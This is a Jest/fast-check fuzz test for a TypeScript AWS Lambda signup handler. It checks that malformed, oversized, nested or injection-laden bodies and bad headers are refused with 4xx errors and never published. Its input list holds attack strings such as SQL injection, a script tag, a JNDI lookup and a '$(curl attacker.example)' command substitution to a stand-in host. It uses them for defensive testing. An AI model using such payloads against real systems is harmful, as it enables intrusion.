/**
 * Fuzzing the handler with fast-check: whatever a client sends that is not a valid signup (broken
 * JSON, deep nesting, huge strings, control characters, odd Unicode, injection strings, wrong
 * types, stray fields, bad headers) is answered 4xx with a JSON `{ error, message }` body, never
 * 5xx, and nothing is published or recorded. Each generated body is invalid by construction.
 */
import { DynamoDBClient } from '@aws-sdk/client-dynamodb';
import { EventBridgeClient, PutEventsCommand } from '@aws-sdk/client-eventbridge';
import type { APIGatewayProxyEventV2 } from 'aws-lambda';
import { captureLogs, installFakeIdempotencyTable, lambdaContext } from '@onboarding/testing';
import { mockClient } from 'aws-sdk-client-mock';
import fc from 'fast-check';
import { handler } from '../../src/handlers/signup';
import { MAX_BODY_BYTES } from '../../src/handlers/read-signup-request';
import { TEST_FUNCTION_NAME, TEST_IDEMPOTENCY_TABLE } from '../test-env';
import { signupEvent } from './support/http-event';

const eventBridge = mockClient(EventBridgeClient);
const dynamo = mockClient(DynamoDBClient);
// Ten seconds left: the in-progress record of a request expires with the invocation.
const invocationContext = lambdaContext(TEST_FUNCTION_NAME, { remainingTimeInMillis: 10_000 });

const valid = { email: 'ada@example.com', name: 'Ada Lovelace', tenantId: 'acme', plan: 'pro' } as const;
const fields = Object.keys(valid) as (keyof typeof valid)[];
const RUNS = { numRuns: 150 };

beforeEach(() => {
  eventBridge.on(PutEventsCommand).resolves({ FailedEntryCount: 0, Entries: [{ EventId: 'evt-1' }] });
  installFakeIdempotencyTable(dynamo, { tableName: TEST_IDEMPOTENCY_TABLE });
  captureLogs();
});

afterEach(() => {
  eventBridge.reset();
  dynamo.reset();
  jest.restoreAllMocks();
});

/** Sends the event and checks the refusal; history is reset per run so a failure shrinks cleanly. */
async function expectRefused(event: APIGatewayProxyEventV2): Promise<void> {
  eventBridge.resetHistory();
  dynamo.resetHistory();

  const response = await handler(event, invocationContext);

  expect(response.statusCode).toBeGreaterThanOrEqual(400);
  expect(response.statusCode).toBeLessThan(500);
  const body = JSON.parse(response.body ?? '');
  expect(Object.keys(body).sort()).toEqual(['error', 'message']);
  expect(body.error).toMatch(/^[A-Za-z]+Error$/);
  expect(typeof body.message).toBe('string');
  expect(eventBridge.commandCalls(PutEventsCommand)).toHaveLength(0);
  expect(dynamo.calls()).toHaveLength(0);
}

const withKey = (body: unknown, key = 'fuzz-key') => signupEvent({ body, headers: { 'content-type': 'application/json', 'idempotency-key': key } });

/** Text that could, once parsed, look like a signup: left out so every generated body is invalid. */
function mightBeASignup(text: string): boolean {
  try {
    const parsed = JSON.parse(text);
    return typeof parsed === 'object' && parsed !== null && 'email' in parsed && 'name' in parsed;
  } catch {
    return false;
  }
}

/** What the API accepts: `application/json`, with no charset or UTF-8. Left out of the generated types. */
function isUtf8Json(type: string): boolean {
  const [mediaType, ...parameters] = type.split(';').map((part) => part.trim().toLowerCase());
  const charset = parameters.find((p) => p.startsWith('charset='));
  return mediaType === 'application/json' && (charset === undefined || charset.replaceAll('"', '') === 'charset=utf-8');
}

const injectionStrings = fc.constantFrom(
  "' OR '1'='1",
  '"; DROP TABLE users; --',
  '<script>alert(1)</script>',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '../../../etc/passwd',
  '$(curl attacker.example)',
  '{"$ne": null}',
  '%00',
  '\\u0000',
  'ada@example.com\r\nBcc: victim@example.com',
);

const oddUnicode = fc.constantFrom(
  'ada@exämple.com',
  'ada\u200b@example.com',
  'ada＠example.com',
  '\u202eada@example.com',
  'ada@example.com\u0000',
  '\ud83d@example.com',
  'ａｄａ@example.com',
);

const controlCharacter = fc.integer({ min: 0, max: 0x9f }).filter((c) => c < 0x20 || c >= 0x7f).map((c) => String.fromCharCode(c));
const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c));

/** A valid signup with exactly one thing wrong with it. */
const brokenSignup: fc.Arbitrary<Record<string, unknown>> = fc.oneof(
  // a field of the wrong type
  fc.record({ field: fc.constantFrom(...fields), value: fc.jsonValue().filter((v) => typeof v !== 'string') }).map(({ field, value }) => ({ ...valid, [field]: value })),
  // a huge string, over every field's limit (some over the body limit too)
  fc.record({ field: fc.constantFrom(...fields), size: fc.integer({ min: 255, max: 2 * MAX_BODY_BYTES }) }).map(({ field, size }) => ({ ...valid, [field]: 'x'.repeat(size) })),
  // a control character or a lone surrogate inside the name
  fc.oneof(controlCharacter, loneSurrogate).map((c) => ({ ...valid, name: `Ada${c}Lovelace` })),
  // injection strings where the format is strict
  fc.record({ field: fc.constantFrom('email', 'tenantId', 'plan'), value: injectionStrings }).map(({ field, value }) => ({ ...valid, [field]: value })),
  // Unicode look-alikes and invisibles in the email
  oddUnicode.map((email) => ({ ...valid, email })),
  // a field the API does not know, including prototype names
  fc
    .record({
      key: fc.oneof(fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', 'Email', 'email ', 'signupId', 'version', 'isAdmin'), fc.string()),
      value: fc.jsonValue(),
    })
    .filter(({ key }) => !(fields as string[]).includes(key))
    .map(({ key, value }) => JSON.parse(`{${JSON.stringify(valid).slice(1, -1)},${JSON.stringify(key)}:${JSON.stringify(value)}}`)),
  // a required field missing
  fc.constantFrom('email', 'name').map((missing) => Object.fromEntries(Object.entries(valid).filter(([k]) => k !== missing))),
);

describe('the signup handler under fuzzing', () => {
  it('refuses arbitrary text, most of it not JSON at all', async () => {
    const text = fc.oneof(fc.string({ unit: 'binary', maxLength: 300 }), fc.string({ unit: 'binary-ascii', maxLength: 300 }), fc.string({ unit: 'grapheme', maxLength: 100 }));

    await fc.assert(fc.asyncProperty(text.filter((t) => !mightBeASignup(t)), async (body) => expectRefused(signupEvent({ body }))), RUNS);
  });

  it('refuses a valid signup cut short anywhere', async () => {
    const whole = JSON.stringify(valid);

    await fc.assert(fc.asyncProperty(fc.integer({ min: 0, max: whole.length - 1 }), async (end) => expectRefused(signupEvent({ body: whole.slice(0, end) }))), RUNS);
  });

  it('refuses JSON that is not an object, and objects that are not signups', async () => {
    const notAnObject = fc.jsonValue().filter((v) => typeof v !== 'object' || v === null || Array.isArray(v));
    const randomObject = fc.dictionary(fc.string(), fc.jsonValue()).filter((o) => !('email' in o && 'name' in o));

    await fc.assert(fc.asyncProperty(fc.oneof(notAnObject, randomObject), async (value) => expectRefused(signupEvent({ body: JSON.stringify(value) }))), RUNS);
  });

  it('refuses deeply nested JSON, as the body or inside a field', async () => {
    const nested = fc.record({ depth: fc.integer({ min: 1, max: 5000 }), open: fc.constantFrom('[', '{"a":'), close: fc.constantFrom(']', '}') });

    await fc.assert(
      fc.asyncProperty(nested, fc.boolean(), async ({ depth, open, close }, insideAField) => {
        const deep = `${open.repeat(depth)}${open === '[' ? '' : '1'}${(open === '[' ? ']' : '}').repeat(depth)}`;
        const unbalanced = `${open.repeat(depth)}${close.repeat(Math.max(0, depth - 1))}`;
        const value = depth % 2 === 0 ? deep : unbalanced;
        const body = insideAField ? `{"email":"ada@example.com","name":"Ada","plan":${value}}` : value;
        await expectRefused(signupEvent({ body }));
      }),
      RUNS,
    );
  });

  it('refuses a signup with one thing wrong with it, with or without an Idempotency-Key', async () => {
    await fc.assert(
      fc.asyncProperty(brokenSignup, fc.boolean(), async (body, keyed) => expectRefused(keyed ? withKey(body) : signupEvent({ body }))),
      { numRuns: 400 },
    );
  });

  it('refuses a valid signup with an Idempotency-Key it cannot accept', async () => {
    const badKey = fc.oneof(
      fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }).filter((k) => !/^[\x21-\x7e]+$/.test(k)),
      fc.string({ unit: 'grapheme-ascii', minLength: 256, maxLength: 400 }),
      fc.constant(''),
    );

    await fc.assert(fc.asyncProperty(badKey, async (key) => expectRefused(withKey(valid, key))), RUNS);
  });

  it('refuses a valid signup declared as anything but UTF-8 JSON', async () => {
    const contentType = fc
      .oneof(fc.string({ maxLength: 60 }), fc.constantFrom('text/plain', 'application/xml', 'multipart/form-data; boundary=x', 'application/json; charset=utf-16', 'application/jsonp', 'json'))
      .filter((type) => !isUtf8Json(type));

    await fc.assert(fc.asyncProperty(contentType, async (type) => expectRefused(signupEvent({ body: valid, headers: { 'content-type': type } }))), RUNS);
  });

  it('accepts names with injection strings and unusual scripts as plain data, published unchanged', async () => {
    const name = fc.oneof(injectionStrings.filter((s) => !/[\r\n]/.test(s)), fc.constantFrom('Zoë 🚀', 'محمد بن سلمان', '李小龍', 'Ǹ̷a̴m̵e̸', 'Robert\'); DROP TABLE Students;--'));

    await fc.assert(
      fc.asyncProperty(name, async (value) => {
        eventBridge.resetHistory();

        const response = await handler(signupEvent({ body: { ...valid, name: value } }), invocationContext);

        expect(response.statusCode).toBe(202);
        const detail = JSON.parse(eventBridge.commandCalls(PutEventsCommand)[0]?.args[0].input.Entries?.[0]?.Detail ?? '{}');
        expect(detail.name).toBe(value.trim());
      }),
      { numRuns: 30 },
    );
  });
});
